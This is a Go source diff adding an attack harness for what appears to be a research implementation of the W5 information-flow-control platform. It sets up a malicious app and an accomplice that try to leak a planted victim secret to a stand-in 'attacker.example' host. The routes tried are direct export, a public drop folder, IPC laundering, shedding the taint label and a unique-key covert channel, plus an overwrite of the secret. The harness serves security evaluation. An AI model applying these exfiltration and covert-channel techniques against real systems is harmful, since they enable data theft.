@@ -1,0 +1,188 @@
+package attack
+
+import (
+	"errors"
+
+	"w5/internal/core"
+	"w5/internal/difc"
+	"w5/internal/kernel"
+	"w5/internal/store"
+	"w5/internal/table"
+)
+
+// Secret is the victim's private datum; adapters plant it and the
+// scoring looks for it in whatever reaches the attacker.
+const Secret = "TOP-SECRET-0xW5"
+
+// rendezvousTable carries the covert-query channel.
+const rendezvousTable = "rendezvous"
+
+// W5Surface runs the adversary as a confined application on a real
+// provider. Construct a fresh one per attack (processes accumulate
+// taint by design).
+type W5Surface struct {
+	P         *core.Provider
+	victim    *core.User
+	evil      *kernel.Process // the malicious app, with read grant
+	accomplice *kernel.Process // unprivileged, untainted peer app
+}
+
+// NewW5Surface provisions a provider with a victim (who has, as the
+// paper allows, enabled the malicious app and thereby granted it READ
+// access) and plants the secret.
+func NewW5Surface() (*W5Surface, error) {
+	p := core.NewProvider(core.Config{Name: "e2-w5", Enforce: true})
+	victim, err := p.CreateUser("victim", "pw")
+	if err != nil {
+		return nil, err
+	}
+	// The secret, under the boilerplate label.
+	vc := p.UserCred("victim")
+	label := difc.LabelPair{
+		Secrecy:   difc.NewLabel(victim.SecrecyTag),
+		Integrity: difc.NewLabel(victim.WriteTag),
+	}
+	if err := p.FS.Write(vc, "/home/victim/private/secret", []byte(Secret), label); err != nil {
+		return nil, err
+	}
+	// A world-writable drop zone exists (pastebin-equivalent): public
+	// secrecy, no integrity requirement.
+	if err := p.FS.Mkdir(providerCred(), "/drop", difc.LabelPair{}); err != nil {
+		return nil, err
+	}
+	// Victim "checks the box" for the evil app: read grant only.
+	evil, err := p.Kernel.Spawn(nil, kernel.SpawnSpec{
+		Name: "app:evil", Owner: "app:evil",
+		Caps: difc.NewCapSet(difc.Plus(victim.SecrecyTag)),
+	})
+	if err != nil {
+		return nil, err
+	}
+	accomplice, err := p.Kernel.Spawn(nil, kernel.SpawnSpec{
+		Name: "app:accomplice", Owner: "app:accomplice",
+	})
+	if err != nil {
+		return nil, err
+	}
+	// The covert-query rendezvous: the victim's own app activity
+	// inserted a row with a well-known unique key under the victim's
+	// label (the "secret bit" is that this happened at all).
+	if err := p.Tables.Create(table.Schema{
+		Name: rendezvousTable, Columns: []string{"k"}, Unique: "k",
+	}); err != nil {
+		return nil, err
+	}
+	victimTC := p.UserTableCred("victim")
+	if _, err := p.Tables.Insert(victimTC, rendezvousTable,
+		map[string]string{"k": "signal"},
+		difc.LabelPair{Secrecy: difc.NewLabel(victim.SecrecyTag)}); err != nil {
+		return nil, err
+	}
+	return &W5Surface{P: p, victim: victim, evil: evil, accomplice: accomplice}, nil
+}
+
+func providerCred() store.Cred { return store.Cred{Principal: "provider"} }
+
+func (s *W5Surface) evilCred() store.Cred {
+	return store.Cred{
+		Labels:    s.evil.Labels(),
+		Caps:      s.evil.Caps(),
+		Principal: "app:evil",
+	}
+}
+
+// ReadSecret implements Surface: permitted (read grant), and taints.
+func (s *W5Surface) ReadSecret() ([]byte, error) {
+	data, label, err := s.P.FS.Read(s.evilCred(), "/home/victim/private/secret")
+	if err != nil {
+		return nil, err
+	}
+	cur := s.evil.Labels()
+	if err := s.P.Kernel.SetLabels(s.evil, difc.LabelPair{
+		Secrecy:   cur.Secrecy.Union(label.Secrecy),
+		Integrity: cur.Integrity,
+	}); err != nil {
+		return nil, err
+	}
+	return data, nil
+}
+
+// ExportDirect implements Surface: the kernel's perimeter check, with
+// no session privilege (the attacker's collection point is anonymous).
+func (s *W5Surface) ExportDirect(data []byte) ([]byte, error) {
+	if err := s.P.Kernel.Export(s.evil, difc.EmptyCaps, "attacker.example", len(data)); err != nil {
+		return nil, err
+	}
+	return data, nil
+}
+
+// WritePublic implements Surface: relay through public storage, then
+// the accomplice reads and exports.
+func (s *W5Surface) WritePublic(data []byte) ([]byte, error) {
+	if err := s.P.FS.Write(s.evilCred(), "/drop/loot", data, difc.LabelPair{}); err != nil {
+		return nil, err
+	}
+	got, _, err := s.P.FS.Read(store.Cred{Principal: "app:accomplice"}, "/drop/loot")
+	if err != nil {
+		return nil, err
+	}
+	if err := s.P.Kernel.Export(s.accomplice, difc.EmptyCaps, "attacker.example", len(got)); err != nil {
+		return nil, err
+	}
+	return got, nil
+}
+
+// LaunderViaIPC implements Surface: message the untainted accomplice,
+// which then exports.
+func (s *W5Surface) LaunderViaIPC(data []byte) ([]byte, error) {
+	if err := s.P.Kernel.Send(s.evil, s.accomplice.ID(), data); err != nil {
+		return nil, err
+	}
+	msg, ok := s.P.Kernel.TryReceive(s.accomplice)
+	if !ok {
+		return nil, errors.New("attack: message not delivered")
+	}
+	if err := s.P.Kernel.Export(s.accomplice, difc.EmptyCaps, "attacker.example", len(msg.Data)); err != nil {
+		return nil, err
+	}
+	return msg.Data, nil
+}
+
+// ShedLabel implements Surface: drop the taint without holding s_u−.
+func (s *W5Surface) ShedLabel(data []byte) ([]byte, error) {
+	if err := s.P.Kernel.SetLabels(s.evil, difc.LabelPair{}); err != nil {
+		return nil, err
+	}
+	return s.ExportDirect(data)
+}
+
+// ProbeSecretByQuery implements Surface: the §3.5 covert channel. A
+// public insert of the victim's rendezvous key collides (naive SQL) or
+// polyinstantiates (W5's labeled store).
+func (s *W5Surface) ProbeSecretByQuery() (bool, error) {
+	evilTC := table.Cred{Principal: "app:evil"} // public, untainted context
+	_, err := s.P.Tables.Insert(evilTC, rendezvousTable,
+		map[string]string{"k": "signal"}, difc.LabelPair{})
+	if errors.Is(err, table.ErrDuplicate) {
+		return true, nil // collision observed: the secret bit leaked
+	}
+	if err != nil {
+		return false, err
+	}
+	return false, nil
+}
+
+// Vandalize implements Surface: overwrite without the write grant.
+func (s *W5Surface) Vandalize() error {
+	return s.P.FS.Write(s.evilCred(), "/home/victim/private/secret",
+		[]byte("DEFACED"), difc.LabelPair{})
+}
+
+// SecretWasVandalized implements Surface.
+func (s *W5Surface) SecretWasVandalized() bool {
+	data, _, err := s.P.FS.Read(s.P.UserCred("victim"), "/home/victim/private/secret")
+	return err != nil || string(data) != Secret
+}
+
+// TrueSecretBit implements Surface: the rendezvous row exists.
+func (s *W5Surface) TrueSecretBit() bool { return true }
